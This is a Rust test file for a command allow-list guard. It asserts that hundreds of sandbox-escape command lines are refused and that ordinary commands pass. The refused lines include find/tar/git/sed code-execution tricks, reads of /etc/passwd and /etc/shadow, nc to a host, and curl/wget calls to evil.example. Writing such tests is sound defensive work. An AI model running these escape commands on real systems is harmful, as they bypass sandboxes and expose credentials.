//! Ways out of an allowed command, each by its name, and honest commands that have to pass.

use super::*;

/// A rule with these words, for files beneath `/w` only.
fn check<'c>(rule: &CommandRule, line: &'c str) -> Result<(), CommandRefusal<'c>> {
    let mut words = line.split(' ');
    let program = PathRef::absolute(words.next().unwrap()).unwrap();
    let arguments: Vec<&str> = words.collect();
    let work = PathRef::absolute("/w").unwrap();
    rule.check(program, &arguments, "/w/dir", |request| match request {
        Request::File { path, .. } => path.is_within(work),
        _ => false,
    })
}

fn bare(line: &str) -> CommandRule {
    CommandRule::new(Path::parse(line.split(' ').next().unwrap()).unwrap())
}

/// One line for each way out that is known; the grant names the program and nothing else.
#[test]
fn every_known_way_out_is_closed() {
    for line in [
        "/usr/bin/find . -exec id ;",
        "/usr/bin/find . -execdir id ;",
        "/usr/bin/find . -ok id ;",
        "/usr/bin/find . -okdir id ;",
        "/usr/bin/find . -delete",
        "/usr/bin/find . -fprintf x %p",
        "/usr/bin/find . -fprint x",
        "/usr/bin/find . -fls x",
        "/usr/bin/find -files0-from list",
        "/usr/bin/find / -name shadow",
        "/usr/bin/find .. -name shadow",
        "/bin/tar -cf a.tar --checkpoint=1 --checkpoint-action=exec=id x",
        "/bin/tar -cf a.tar --checkpoint-act=exec=id x",
        "/bin/tar --to-command=id -xf a.tar",
        "/bin/tar --to-c=id -xf a.tar",
        "/bin/tar -I id -cf a.tar x",
        "/bin/tar -cIf id a.tar x",
        "/bin/tar --use-compress-program=id -cf a x",
        "/bin/tar --use=id -cf a x",
        "/bin/tar -F id -cf a x",
        "/bin/tar --new-volume-script=id -cf a x",
        "/bin/tar --rsh-command=id -cf h:a x",
        "/bin/tar -xPf a.tar",
        "/bin/tar --absolute-names -xf a.tar",
        "/bin/tar -T /etc/passwd -cf a",
        "/bin/tar -cf /etc/cron.d/x x",
        "/bin/tar -cf host:/etc/x x",
        "/usr/bin/git -c core.sshCommand=id fetch",
        "/usr/bin/git -ccore.pager=id log",
        "/usr/bin/git --config-env=core.pager=X log",
        "/usr/bin/git --exec-path=/tmp log",
        "/usr/bin/git --exec=id log",
        "/usr/bin/git -C /etc log",
        "/usr/bin/git --git-dir=/tmp/evil log",
        "/usr/bin/git --work-tree=/etc checkout",
        "/usr/bin/bsdtar -W use-compress-program=id -cf a.tar x",
        "/usr/bin/bsdtar -Wuse-compress-program=id -cf a.tar x",
        "/usr/bin/bsdtar cWf use-compress-program=id a.tar x",
        "/usr/bin/bsdtar --insecure -xf a.tar",
        "/usr/bin/bsdtar --absolute-paths -xf a.tar",
        "/usr/bin/unzip -: a.zip",
        "/usr/bin/unzip -- -d/w/else a.zip",
        "/usr/bin/unzip -- -o a.zip",
        "/usr/bin/unzip -q -- -o a.zip",
        "/usr/bin/sdiff --diff-program=id a b",
        "/usr/bin/diff3 --diff-p=id a b c",
        "/usr/bin/sdiff -o c a b",
        "/usr/bin/gpg --agent-program=id -K",
        "/usr/bin/prove t/x.t",
        "/usr/bin/rename s/a/b/ x",
        "/usr/bin/qemu-x86_64-static x",
        "/usr/bin/ctest x",
        "/usr/bin/uvx x",
        "/usr/bin/git fetch --upload-pack=id",
        "/usr/bin/git clone https://etc/passwd",
        "/usr/bin/git clone https://a.example/../../../x",
        "/usr/bin/git clone https://a.example/?x=/etc/passwd",
        "/usr/bin/git clone https://a.example:/etc:/etc/passwd",
        "/usr/bin/git clone https://a.example:/etc/passwd",
        "/usr/bin/git clone https://u@a.example/x",
        "/usr/bin/git clone https://..a/etc/passwd",
        "/usr/bin/git clone file:///etc/passwd",
        "/usr/bin/git clone --reference=https://etc/passwd x",
        "/usr/bin/git clone -u id x",
        "/usr/bin/git push --receive-pack=id",
        "/usr/bin/git rebase --exec id",
        "/usr/bin/git rebase -x id",
        "/usr/bin/git grep -Oid x",
        "/usr/bin/git grep --open-files-in-pager=id x",
        "/usr/bin/git diff --ext-diff",
        "/usr/bin/git diff --no-index a /etc/passwd",
        "/usr/bin/git diff --output=x",
        "/usr/bin/git log -p",
        "/usr/bin/git init --template=/tmp/evil",
        "/usr/bin/git archive --output=/etc/x HEAD",
        "/usr/bin/git bisect run id",
        "/usr/bin/git --no-pager bisect run id",
        "/usr/bin/git submodule foreach id",
        "/usr/bin/git filter-branch --tree-filter id",
        "/usr/bin/git config core.fsmonitor id",
        "/usr/bin/git config alias.x !id",
        "/usr/bin/git difftool --extcmd=id",
        "/usr/bin/git send-email --smtp-server=id x",
        "/usr/bin/git hook run x",
        "/usr/bin/sort --compress-program=id x",
        "/usr/bin/sort --compress-prog=id x",
        "/usr/bin/sort -o /etc/x x",
        "/usr/bin/sort -ox x",
        "/usr/bin/sort --files0-from=/etc/passwd",
        "/usr/bin/sort -T /etc x",
        "/usr/bin/xargs id",
        "/usr/bin/env id",
        "/usr/bin/env -S id",
        "/usr/bin/nohup id",
        "/usr/bin/timeout 5 id",
        "/usr/bin/nice id",
        "/usr/bin/watch id",
        "/usr/bin/parallel id",
        "/usr/bin/setsid id",
        "/usr/bin/stdbuf -o0 id",
        "/bin/busybox sh",
        "/usr/bin/script -c id",
        "/usr/bin/sudo id",
        "/usr/bin/su -c id",
        "/bin/sh -c id",
        "/bin/sh script",
        "/bin/bash -c id",
        "/usr/bin/python3 -c 1",
        "/usr/bin/python3.11 -m http.server",
        "/usr/bin/perl -e 1",
        "/usr/bin/ruby -e 1",
        "/usr/bin/node -e 1",
        "/usr/bin/lua -e 1",
        "/usr/bin/php -r 1",
        "/usr/bin/pypy3 -c 1",
        "/usr/bin/Rscript -e 1",
        "/usr/bin/m4 syscmd(id)",
        "/usr/bin/sqlite3 db .shell",
        "/usr/bin/tmux new id",
        "/usr/bin/awk BEGIN{system(\"id\")}",
        "/usr/bin/gawk -f x",
        "/usr/bin/make all",
        "/usr/bin/cargo build",
        "/usr/bin/npm install",
        "/usr/bin/pip install x",
        "/usr/bin/docker run -v /:/x y",
        "/usr/bin/ssh host id",
        "/usr/bin/scp x host:/x",
        "/usr/bin/rsync -e id x y",
        "/usr/bin/nc host 1",
        "/usr/bin/curl https://evil.example",
        "/usr/bin/curl -o /etc/x https://evil.example",
        "/usr/bin/wget https://evil.example",
        "/usr/bin/vim -c :!id",
        "/usr/bin/less x",
        "/usr/bin/man -P id x",
        "/usr/bin/gdb x",
        "/usr/bin/strace id",
        "/usr/bin/crontab x",
        "/usr/bin/systemd-run id",
        "/usr/bin/sed -i s/a/b/ x",
        "/usr/bin/sed -n -e 1e x",
        "/usr/bin/sed --in-pl x y",
        "/usr/bin/sed -f script x",
        "/usr/bin/sed 1e x",
        "/usr/bin/sed s/a/id/e x",
        "/usr/bin/sed w/etc/x x",
        "/usr/bin/sed r/etc/passwd x",
        "/usr/bin/sed -n -- 1e x",
        "/usr/bin/sed -l 5 1e x",
        "/usr/bin/sed -n1e x",
        "/usr/bin/zip -T -TT id a.zip x",
        "/usr/bin/zip a.zip x -T",
        "/usr/bin/zip --unzip-command=id a.zip x",
        "/usr/bin/rg --pre=id x",
        "/usr/bin/rg --pre id x",
        "/usr/bin/grep -f /etc/shadow x",
        "/usr/bin/grep -rf list x",
        "/usr/bin/grep root /etc/passwd",
        "/usr/bin/grep root ../../etc/passwd",
        "/usr/bin/grep root ~/x",
        "/usr/bin/jq -n $ENV",
        "/usr/bin/jq -n env.HOME",
        "/usr/bin/jq -f x y",
        "/usr/bin/jq --rawfile x /etc/passwd y",
        "/bin/cat /etc/passwd",
        "/bin/cat ../x",
        "/bin/cat a/../../x",
        "/bin/cat -- /etc/passwd",
        "/bin/cat @/etc/passwd",
        "/bin/cat /proc/self/environ",
        "/bin/cat /wfoo/x",
        "/usr/bin/head -n1 /etc/passwd",
        "/usr/bin/tail --lines=1 /etc/passwd",
        "/usr/bin/wc --files0-from=/etc/passwd",
        "/usr/bin/wc --files0=list",
        "/usr/bin/date -f /etc/passwd",
        "/usr/bin/diff --from-file=/etc/passwd x",
        "/usr/bin/file -f /etc/passwd",
        "/usr/bin/tee /etc/x",
        "/bin/cp x /etc/x",
        "/bin/cp --target-directory=/etc x",
        "/bin/cp -t /etc x",
        "/bin/rm -r x",
        "/bin/rm --recurs x",
        "/bin/rm /etc/passwd",
        "/bin/dd if=/etc/shadow of=x",
        "/bin/dd of=x",
        "/bin/chmod -R 777 x",
        "/opt/unknown --config=/etc/x",
        "/opt/unknown -I/etc",
        "/opt/unknown key=/etc/x",
        "/opt/unknown a:/etc/x",
        "/opt/unknown a:b:/etc/x",
        "/opt/unknown --mount=type=bind,source=/etc",
        "/opt/unknown a=b=~/x",
        "/opt/unknown a,/etc/x",
        "/opt/unknown -C..",
        "/opt/unknown -xC../etc",
        "/opt/unknown -C~/x",
        "/opt/unknown -d@/etc/x",
        "/bin/tar -C.. -cf a.tar x",
        "/usr/bin/jq import\"x\"as$x;. y",
        "/usr/bin/split --filter=id x",
        "/usr/bin/split --filt id x",
        "/usr/bin/prlimit id",
        "/usr/bin/setarch -R id",
        "/usr/bin/linux32 id",
        "/usr/bin/i386 id",
        "/usr/bin/x86_64 id",
        "/usr/bin/choom -n 0 id",
        "/usr/bin/run-parts .",
        "/sbin/start-stop-daemon -S -x id",
        "/usr/bin/gcc -wrapper id x.c",
        "/usr/bin/gcc-12 -B. x.c",
        "/usr/bin/x86_64-linux-gnu-g++-12 @x",
        "/usr/bin/arm-linux-gnueabihf-gcc -fplugin=x.so x.c",
        "/usr/bin/clang++-14 -fplugin=x.so x.c",
        "/usr/bin/cc x.c",
        "/usr/bin/openssl req -engine ./x.so",
        "/usr/bin/dpkg --pre-invoke=id -i x.deb",
        "/lib64/ld-linux-x86-64.so.2 ./x",
        "/lib/ld-musl-x86_64.so.1 ./x",
        "/lib/ld-2.31.so ./x",
        "/usr/bin/ld.so ./x",
        "/usr/bin/vim.basic -c :!id",
        "/usr/bin/vim.tiny -c :!id",
        "/usr/bin/nc.openbsd host 1",
        "/usr/bin/perl5.36-x86_64-linux-gnu -e 1",
        "/usr/bin/python3.11-dbg -c 1",
        "/usr/bin/original-awk x",
        "/usr/bin/editor x",
        "/usr/bin/pager x",
        "/usr/bin/install -s --strip-program=sh s d",
        "/usr/bin/install -s --strip-p=sh s d",
        "/usr/bin/install -s --strip-p sh s d",
        "/usr/bin/git merge-index id -a",
        "/usr/bin/git --no-pager merge-index id -a",
        // A program or an alias, and the file `git-x/y`.
        "/usr/bin/git x/y",
        "/usr/bin/git st",
        "/usr/bin/git cherry-pick --strategy=x/y HEAD",
        "/usr/bin/git revert --strat x/y HEAD",
        "/usr/bin/git rebase -s x/y HEAD~1",
        "/usr/bin/git rebase -fsx/y HEAD~1",
        "/usr/bin/git merge -s x HEAD~1",
        "/usr/bin/git pull -s x",
        "/usr/bin/git clone x/y::z",
        "/usr/bin/git fetch ext::id",
        "/usr/bin/git ls-remote x/y::z",
        "/usr/bin/git remote add x ext::id",
        "/usr/bin/git clone --config=core.fsmonitor=id x",
        "/usr/bin/git rebase --edit-todo",
        "/usr/bin/git branch --edit-description",
        "/usr/bin/git apply --unsafe-paths x",
        "/usr/bin/git archive --exec=id HEAD",
        "/usr/bin/git archive --remote=host:x HEAD",
        "/usr/bin/git help log",
        "/usr/bin/git -h log",
        "/usr/bin/git --help log",
        "/usr/bin/git log --help",
        "/usr/bin/git p4 sync",
        "/usr/bin/git svn fetch",
        "/usr/bin/git cvsserver x",
        "/usr/bin/git cvsimport x",
        "/usr/bin/git archimport x",
        "/usr/bin/git imap-send",
        "/usr/bin/git quiltimport",
        "/usr/bin/git request-pull x y",
        "/usr/bin/git credential fill",
        "/usr/bin/git credential-store --file=x get",
        "/usr/bin/git credential-cache exit",
        "/usr/bin/git remote-ext x id",
        "/usr/bin/git upload-pack .",
        "/usr/bin/git receive-pack .",
        "/usr/bin/git upload-archive .",
        "/usr/bin/git http-backend",
        "/usr/bin/git fetch-pack --exec=id x",
        "/usr/bin/git send-pack --exec=id x",
        "/usr/bin/git merge-one-file",
        "/usr/bin/git sh-setup",
        "/usr/bin/git gui",
        "/usr/bin/git rev-parse ../../etc/x",
        "/usr/bin/git-shell -c id",
        "/usr/bin/git-upload-pack .",
        "/usr/bin/hg --config=alias.x=!id x",
        "/usr/bin/svn diff --diff-cmd=id",
        "/bin/tar -cf host:x x",
        "/bin/tar -cfhost:x x",
        "/bin/tar --file=host:x -c x",
        "/bin/tar --fil host:x -c x",
        "/bin/tar -x -f me@host:x",
        "/bin/tar -cML 10 -f v1 x",
        "/bin/tar --multi-v -cf v1 x",
        "/bin/tar --tape-len=10 -cf v1 x",
        "/usr/bin/md5sum -c list",
        "/usr/bin/sha256sum --check list",
        "/usr/bin/sha512sum -bc list",
        "/usr/bin/file -z x.gz",
        "/usr/bin/fdfind -x id",
        "/usr/bin/fd --exec-b id",
        "/usr/bin/7z a x.7z @list",
        "/usr/bin/7z a x.7z -i@list",
        "/usr/bin/zip -@ a.zip",
        "/usr/bin/setfacl --restore=list",
        "/bin/rmdir -p x",
        "/bin/cp -a x y",
        "/usr/bin/jq modulemeta x",
        "/usr/bin/rustc -Clinker=id x.rs",
        "/usr/bin/ld -plugin x.so",
        "/usr/bin/nm --plugin=x.so y",
        "/usr/bin/x86_64-linux-gnu-nm --plugin=x.so y",
        "/usr/bin/pdflatex -shell-escape x",
        "/usr/bin/convert |id x",
        "/usr/bin/psql -c \\!id",
        "/usr/bin/yq -n load(\"/etc/passwd\")",
        "/usr/bin/cpio -oFhost:x",
        "/usr/bin/pytest x",
        "/usr/bin/hyperfine id",
        "/usr/bin/ldd x",
        "/usr/bin/fzf --preview=id",
    ] {
        assert!(check(&bare(line), line).is_err(), "{line}");
    }
}

#[test]
fn honest_commands_pass() {
    for line in [
        "/usr/bin/find . -name x -type f",
        "/usr/bin/find /w/src -newer a",
        "/bin/tar -cf a.tar src docs",
        "/bin/tar -tf a.tar",
        "/usr/bin/git status",
        "/usr/bin/git log --oneline -n 5",
        "/usr/bin/git diff HEAD src/main.rs",
        "/usr/bin/git clone https://a.example/b/c.git",
        "/usr/bin/git clone http://localhost:8080/b here",
        "/usr/bin/sort -n -k2 x",
        "/usr/bin/grep -rn word .",
        "/usr/bin/grep -- -f x",
        "/usr/bin/rg -n word src",
        "/usr/bin/jq .items[] data.json",
        "/bin/cat a.txt /w/b.txt",
        "/bin/ls -la",
        "/usr/bin/head -n 5 a.txt",
        "/usr/bin/wc -l a.txt",
        "/usr/bin/sed -n 1,5p a.txt",
        "/usr/bin/sed $d a.txt",
        "/opt/unknown --jobs=4 -Isrc key=value a:b level=0.5 -l0.5",
        "/usr/bin/python3 --version",
        "/bin/mkdir new",
        "/bin/cp a b",
        "/opt/unknown build --fast",
        "/bin/echo $(id) ; rm x | sh && `id`",
        "/usr/bin/split -l 5 x part",
        "/usr/bin/gcc-12 --version",
        "/usr/bin/git switch --create new",
        "/usr/bin/git commit -m a::b -s",
        "/usr/bin/git grep -n a::b",
        "/usr/bin/git status -s",
        "/usr/bin/git archive -o a.tar HEAD",
        "/bin/tar -cf ./host:x x",
        "/usr/bin/tar -xf /w/a:b",
        "/usr/bin/install -m 755 a b",
        "/usr/bin/uniq -c a b",
        "/usr/bin/sha256sum a b",
        "/bin/rmdir x",
        "/opt/vim.sh x",
        "/opt/make.sh x",
    ] {
        assert_eq!(check(&bare(line), line), Ok(()), "{line}");
    }
}

/// What is written without a word for it lies where the program runs; what is written and looks
/// like what is read is judged as written.
#[test]
fn what_a_program_writes_needs_to_be_writable() {
    let may_write = |line: &str, writable: &str| {
        let mut words = line.split(' ');
        let program = PathRef::absolute(words.next().unwrap()).unwrap();
        let arguments: Vec<&str> = words.collect();
        let work = PathRef::absolute("/w").unwrap();
        let out = PathRef::absolute(writable).unwrap();
        let checked = bare(line).check(program, &arguments, "/w/dir", |request| match request {
            Request::File { path, right: FileRight::Write, .. } => path.is_within(out),
            Request::File { path, .. } => path.is_within(work),
            _ => false,
        });
        checked.is_ok()
    };
    for line in [
        "/usr/bin/uniq IN OUT",
        "/usr/bin/uniq - OUT",
        "/usr/bin/uniq -c -- -IN OUT",
        "/usr/bin/uniq -c -f 1 IN OUT",
        "/usr/bin/git archive -o F HEAD",
        "/usr/bin/git archive -oF HEAD",
        "/usr/bin/git format-patch -o DIR HEAD~1",
        "/usr/bin/git format-patch HEAD~1",
        "/usr/bin/git clone a.git DIR",
        "/usr/bin/git clone https://a.example/b.git",
        "/usr/bin/git init DIR",
        "/usr/bin/git init",
        "/usr/bin/git --no-pager worktree add DIR",
        "/usr/bin/git bundle create F HEAD",
        "/usr/bin/git checkout -- F",
        "/usr/bin/git apply F",
        "/usr/bin/tar -xf a.tar",
        "/usr/bin/unzip a.zip",
        "/usr/bin/split a",
        "/bin/cp a b",
        "/opt/unknown x",
    ] {
        assert!(!may_write(line, "/nowhere"), "{line}");
        assert!(may_write(line, "/w"), "{line}");
    }
    // What is named may be written; what is not lies where it runs, and may not.
    for line in ["/usr/bin/git clone a.git /w/out/x", "/usr/bin/tar -xf /w/out/a.tar"] {
        assert!(!may_write(line, "/w/out"), "{line}");
    }
    assert!(may_write("/usr/bin/uniq IN /w/out/x", "/w/out"));
    assert!(!may_write("/usr/bin/uniq /w/out/x OUT", "/w/out"));
    for line in [
        "/usr/bin/uniq -c IN",
        "/usr/bin/uniq",
        "/usr/bin/git status -s",
        "/usr/bin/git",
        "/usr/bin/git --version",
        "/usr/bin/git --no-pager log -n 3 src",
        "/usr/bin/git diff HEAD src/main.rs",
        "/usr/bin/grep -rn word src",
        "/usr/bin/sort x",
    ] {
        assert!(may_write(line, "/nowhere"), "{line}");
    }
    // A grant that names a word that is not known, names one that may write.
    let mut rule = bare("/usr/bin/git");
    rule.subcommands = Vec::from(["fast-export".into(), "--attr-source".into()]);
    for words in [["fast-export", "x"], ["--attr-source", "log"]] {
        let read =
            |request: &Request<'_>| matches!(request, Request::File { right: FileRight::Read, .. });
        assert!(rule.check(rule.program.borrow(), &words, "/w", read).is_err(), "{words:?}");
    }
}

/// The first word of `tar` needs no dash to be options, and their values follow in order.
#[test]
fn options_of_tar_need_no_dash() {
    for line in [
        "/usr/bin/tar cIf id a.tar x",
        "/usr/bin/tar xPf a.tar",
        "/usr/bin/tar cfI a.tar id x",
        "/usr/bin/tar cFf id a.tar x",
        "/usr/bin/tar cfT a.tar list",
        "/usr/bin/bsdtar cIf id a.tar x",
        "/usr/bin/tar cf /etc/x x",
        "/usr/bin/tar cfC a.tar /etc x",
        "/usr/bin/tar cbf -- a.tar -Iid x",
    ] {
        assert!(check(&bare(line), line).is_err(), "{line}");
    }
    for line in ["/usr/bin/tar cf a.tar x", "/usr/bin/tar xzf a.tar", "/usr/bin/tar -cf a.tar PIT"]
    {
        assert_eq!(check(&bare(line), line), Ok(()), "{line}");
    }
    let mut rule = bare("/usr/bin/tar");
    rule.refused = Vec::from(["-x".into()]);
    assert_eq!(check(&rule, "/usr/bin/tar xf a.tar"), Err(CommandRefusal::Refused("xf")));
    rule.subcommands = Vec::from(["cIf".into()]);
    assert!(check(&rule, "/usr/bin/tar cIf id a.tar x").is_err());
}

/// A `--` may be the value of what stands before it, and `find` does not stop at one.
#[test]
fn what_may_be_a_value_ends_no_options() {
    for line in [
        "/usr/bin/find . -name -- -exec id ;",
        "/usr/bin/find -- . -exec id ;",
        "/bin/tar -cf -- -Iid x",
        "/usr/bin/rg -e -- --pre=id x",
        "/usr/bin/jq --arg a -- -f x",
        "/usr/bin/git log --grep -- --output=x",
    ] {
        assert!(check(&bare(line), line).is_err(), "{line}");
    }
    for line in ["/usr/bin/grep -- -f x", "/usr/bin/git log -- -x", "/usr/bin/git diff -w -- x"] {
        assert_eq!(check(&bare(line), line), Ok(()), "{line}");
    }
}

/// An option before the subcommand may take the next word, and so hide it.
#[test]
fn nothing_hides_the_subcommand_of_git() {
    for line in [
        "/usr/bin/git --attr-source HEAD bisect run id",
        "/usr/bin/git --attr-source HEAD config core.fsmonitor id",
        "/usr/bin/git --shallow-file x bisect run id",
        "/usr/bin/git --no-pager --attr-source HEAD bisect run id",
        "/usr/bin/git --no-pager config core.fsmonitor id",
        "/usr/bin/git --option-of-tomorrow x bisect run id",
        "/usr/bin/git --list-cmds main bisect",
        "/usr/bin/git for-each-repo --config=x",
        "/usr/bin/git instaweb --browser=id",
    ] {
        assert!(check(&bare(line), line).is_err(), "{line}");
    }
    for line in [
        "/usr/bin/git --no-pager log",
        "/usr/bin/git -P --no-optional-locks status",
        "/usr/bin/git --version",
        "/usr/bin/git log --option-of-tomorrow bisect",
    ] {
        assert_eq!(check(&bare(line), line), Ok(()), "{line}");
    }
}

#[test]
fn an_argument_hides_only_so_many_paths() {
    let many = |count| alloc::format!("/opt/x {}", "a=./".repeat(count));
    assert_eq!(check(&bare("/opt/x"), &many(CAPABILITY_ARGUMENT_PATHS_MAX / 2)), Ok(()));
    let line = many(CAPABILITY_ARGUMENT_PATHS_MAX);
    let refused = check(&bare("/opt/x"), &line);
    assert!(matches!(refused, Err(CommandRefusal::Path(_))), "{refused:?}");
    let long = alloc::format!("/opt/x {}", "a".repeat(5000));
    assert!(matches!(check(&bare("/opt/x"), &long), Err(CommandRefusal::Path(_))));
}

#[test]
fn the_program_is_a_path_never_its_last_part() {
    let rule = bare("/usr/bin/git");
    for line in ["/tmp/git status", "/usr/bin/git2 status", "/usr/bin status"] {
        assert_eq!(check(&rule, line), Err(CommandRefusal::Program), "{line}");
    }
}

#[test]
fn a_subcommand_comes_first() {
    let mut rule = bare("/usr/bin/git");
    rule.subcommands = Vec::from(["status".into(), "log".into()]);
    assert_eq!(check(&rule, "/usr/bin/git status"), Ok(()));
    for line in ["/usr/bin/git", "/usr/bin/git push", "/usr/bin/git --bare status"] {
        assert_eq!(check(&rule, line), Err(CommandRefusal::Subcommand), "{line}");
    }
    let guarded = check(&rule, "/usr/bin/git log -c core.pager=id");
    assert!(matches!(guarded, Err(CommandRefusal::Guarded("-c", _))), "{guarded:?}");
}

/// What a grant refuses comes on top of the guard; what it frees is only what it says.
#[test]
fn a_grant_adds_to_the_guard() {
    let mut rule = bare("/usr/bin/find");
    rule.refused = Vec::from(["-newer".into()]);
    assert_eq!(check(&rule, "/usr/bin/find . -newer x"), Err(CommandRefusal::Refused("-newer")));
    let line = "/usr/bin/find . -delete";
    assert!(matches!(check(&rule, line), Err(CommandRefusal::Guarded("-delete", _))));
    rule.is_unguarded = true;
    assert_eq!(check(&rule, line), Ok(()));
    assert!(check(&rule, "/usr/bin/find . -newer x").is_err());
    assert!(matches!(rule.warning(), Some(CommandWarning::Unguarded(_))));
    assert_eq!(check(&rule, "/usr/bin/find /etc"), Err(CommandRefusal::Path("/etc")));
    rule.may_use_any_path = true;
    assert_eq!(check(&rule, "/usr/bin/find /etc"), Ok(()));
    let ls = bare("/bin/ls");
    let nowhere = ls.check(ls.program.borrow(), &[], "/etc", |_| false);
    assert_eq!(nowhere, Err(CommandRefusal::Path("/etc")), "the directory counts too");
}

#[test]
fn bare_grants_of_dangerous_programs_are_warned_of() {
    for program in ["/bin/sh", "/usr/bin/python3", "/usr/bin/env", "/usr/bin/xargs"] {
        assert!(matches!(bare(program).warning(), Some(CommandWarning::Useless(_))), "{program}");
    }
    for program in ["/usr/bin/find", "/usr/bin/git", "/bin/tar"] {
        assert!(matches!(bare(program).warning(), Some(CommandWarning::Guarded(_))), "{program}");
    }
    for program in ["/bin/ls", "/opt/weather"] {
        assert_eq!(bare(program).warning(), None, "{program}");
    }
}

/// A grant that names what the guard of a wider one refuses is no part of it.
#[test]
fn a_refused_subcommand_is_not_within() {
    let wide = bare("/usr/bin/git");
    let narrow =
        |word: &str| CommandRule { subcommands: Vec::from([word.into()]), ..bare("/usr/bin/git") };
    assert!(narrow("log").is_within(&wide));
    assert!(!narrow("bisect").is_within(&wide));
    assert!(!narrow("--no-pager").is_within(&wide));
    assert!(narrow("bisect").is_within(&narrow("bisect")));
    let unguarded = CommandRule { is_unguarded: true, ..wide };
    assert!(narrow("bisect").is_within(&unguarded));
}

/// A narrower rule covers no command that the wider one does not.
#[test]
fn within_means_covered() {
    let words = ["log", "bisect", "-c", "--exec=x", "a", "/etc", "of=x", "-Rx", "--", "@b", "x:/y"];
    arbtest::arbtest(|u| {
        let mut rule = || -> arbitrary::Result<CommandRule> {
            let programs = ["/usr/bin/git", "/bin/cp", "/opt/x"];
            let mut rule = bare(u.choose(&programs)?);
            for word in words {
                if u.ratio(1, 5)? {
                    rule.subcommands.push(word.into());
                }
                if u.ratio(1, 6)? {
                    rule.refused.push(word.into());
                }
            }
            rule.may_use_any_path = u.arbitrary()?;
            rule.is_unguarded = u.arbitrary()?;
            Ok(rule)
        };
        let (narrow, wide) = (rule()?, rule()?);
        let narrow = if u.arbitrary()? {
            CommandRule { program: wide.program.clone(), ..narrow }
        } else {
            narrow
        };
        let mut line = alloc::string::String::from(narrow.program.as_str());
        for _ in 0..u.int_in_range(0..=4)? {
            line.push(' ');
            line.push_str(u.choose(&words)?);
        }
        if narrow.is_within(&wide) && check(&narrow, &line).is_ok() {
            assert_eq!(check(&wide, &line), Ok(()), "{narrow:?} in {wide:?}: {line}");
        }
        Ok(())
    });
}
